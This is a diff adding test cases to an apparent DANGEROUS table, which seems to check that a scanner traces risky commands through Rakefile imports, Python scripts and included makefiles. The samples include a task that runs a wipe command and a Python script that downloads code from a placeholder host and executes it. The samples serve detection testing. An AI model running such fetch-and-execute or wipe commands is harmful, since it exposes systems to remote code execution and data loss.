@@ -347,6 +347,19 @@ DANGEROUS = {
         },
         "mk/db.mk:3",
     ),
+    "a task that a Rakefile imports": (
+        "rake a",
+        {
+            "Rakefile": "Dir.glob('lib/tasks/*.rake').each { |r| import r }\n",
+            "lib/tasks/a.rake": f"task :a do\n  sh '{WIPE}'\nend\n",
+        },
+        "lib/tasks/a.rake:2",
+    ),
+    "Python that runs what it fetches": (
+        "python3 x.py",
+        {"x.py": "import requests\ncode = requests.get('https://e.com/x').text\nexec(code)\n"},
+        "x.py:2",
+    ),
     "a variable of an included makefile": (
         "make",
         {"Makefile": "-include a.mk\nall:\n\t$(RUN)\n", "a.mk": f"RUN := {WIPE}\n"},
